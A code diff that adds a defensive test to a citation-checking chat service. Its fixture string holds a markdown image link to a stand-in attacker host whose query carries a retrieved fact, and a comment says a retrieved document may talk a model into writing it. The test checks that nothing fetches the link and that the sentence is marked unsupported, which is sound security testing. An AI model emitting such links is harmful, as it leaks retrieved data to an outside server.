@@ -53,6 +53,31 @@ def test_ask_answers_with_citations_that_are_in_the_text(world: World, api_clien
     assert {"embed", "vector", "keyword", "gate", "first_token", "model", "check"} <= set(receipt["milliseconds"])
 
 
+LURED = "There are thirty days of paid leave a year [1]. ![logo][1a]\n\n[1a]: https://evil.example/?q=thirty"
+"""What a document may talk a model into: an image whose address carries what was found."""
+
+
+@pytest.mark.parametrize(
+    ("area", "kind"),
+    [("", "application/json"), ("/streams", "text/event-stream; charset=utf-8")],
+    ids=["chats", "streams"],
+)
+def test_answer_that_names_an_image_is_text_and_nothing_fetches_it(
+    area: str, kind: str, world: World, api_client: Client, chat: str
+) -> None:
+    world.llm.answers.append(LURED)
+    answer = api_client.post(f"{area}/chats/{chat}/messages", {"question": "How many days of paid leave?"})
+    assert answer.status in {200, 201}, answer.body
+    assert answer.headers["content-type"] == kind
+    assert answer.headers["x-content-type-options"] == "nosniff"
+    assert answer.headers["content-security-policy"] == "default-src 'none'; frame-ancestors 'none'"
+    assert (world.egress.gets, world.egress.posts) == ([], [])
+    kept = api_client.get(f"/chats/{chat}/messages").json[-1]
+    named = [one for one in kept["sentences"] if "evil" in kept["content"][one["start"] : one["end"]]]
+    assert named
+    assert not any(one["supported"] for one in named)
+
+
 def test_ask_with_invented_source_drops_it_and_marks_the_sentence(world: World, api_client: Client, chat: str) -> None:
     world.llm.answers.append("You have ninety days of leave on the moon [99].")
     told = ask(api_client, chat).json["answer"]
